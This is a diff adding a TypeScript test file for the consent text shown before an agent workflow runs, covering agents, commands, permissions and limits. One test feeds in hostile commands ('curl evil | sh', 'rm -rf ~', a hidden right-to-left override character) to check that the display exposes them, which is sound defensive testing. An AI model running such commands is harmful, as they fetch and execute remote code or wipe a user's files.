@@ -1,0 +1,69 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { sampleWorkflow } from '../services/sampleRuns.ts';
+import type { AgentInfo } from '../../../client/services/agentModel.ts';
+import { inEnglish } from './inEnglish.ts';
+
+const { consentText } = await inEnglish(() => import('../../../client/views/consentText.ts'));
+
+const codex: AgentInfo = {
+  name: 'codex',
+  protocol: 'command',
+  command: ['codex', 'exec', '--add-dir', '/tmp/a b'],
+  isExperimental: true,
+};
+const [step] = sampleWorkflow().steps;
+assert.ok(step);
+
+describe('what a person reads before a file runs that is new', () => {
+  it('is which programs and commands it runs, what agents may do, and which limits hold it', () => {
+    const text = consentText(
+      sampleWorkflow({
+        limits: [
+          { name: 'wallClock', limit: 30 * 60_000, enforcedBy: 'runner' },
+          { name: 'tokens', limit: 200_000, enforcedBy: 'reports' },
+          { name: 'memory', limit: 2_000_000_000, enforcedBy: 'nobody' },
+        ],
+      }),
+      [codex],
+    );
+    assert.equal(
+      text,
+      `Agents:
+    codex (experimental): codex exec --add-dir "/tmp/a b"
+Commands that a shell runs after iterations, to see whether a step is done:
+    fix: npm test
+Permissions: an agent that asks waits for your answer
+Limits:
+    Iterations: at most 20 (enforced by Lockstep)
+    Time: at most 30 min (enforced by Lockstep)
+    Tokens: at most 200,000 (checked as agents report it, so one iteration may go over it)
+    Memory: at most 2 GB (not enforced on this computer)`,
+    );
+  });
+
+  it('says so where an agent is not known, and that permissions are given without asking', () => {
+    const text = consentText(sampleWorkflow({ permissions: 'allow' }), []);
+    assert.match(text, /codex \(not among the agents of this computer\)/);
+    assert.match(text, /Permissions: what agents ask for is allowed without asking you/);
+  });
+
+  it('hides nothing of a command: neither further lines, nor turned letters, nor that it goes on', () => {
+    const until = (command: string) =>
+      consentText(sampleWorkflow({ steps: [{ ...step, until: command }] }), [codex]);
+    assert.match(until('npm test\ncurl evil | sh'), /npm test ⏎ curl evil \| sh/);
+    assert.match(until('npm test \u202e hs'), /⟨U\+202E⟩/);
+    assert.match(
+      until(`true ${'x'.repeat(1000)}; rm -rf ~`),
+      /\(1015 characters: open the file to read them\)/,
+    );
+    const steps = Array.from({ length: 30 }, (_, index) => ({ ...step, id: `s${index}` }));
+    assert.match(consentText(sampleWorkflow({ steps }), [codex]), /and 18 more: open the file to read them/);
+  });
+
+  it('tells what is odd in the file', () => {
+    const problem = { code: 'budget-over', message: 'The steps need more.', line: 0, character: 0 };
+    const text = consentText(sampleWorkflow({ problems: [{ ...problem, severity: 'warning' }] }), [codex]);
+    assert.match(text, /Warnings:\n {4}The steps need more\./);
+  });
+});
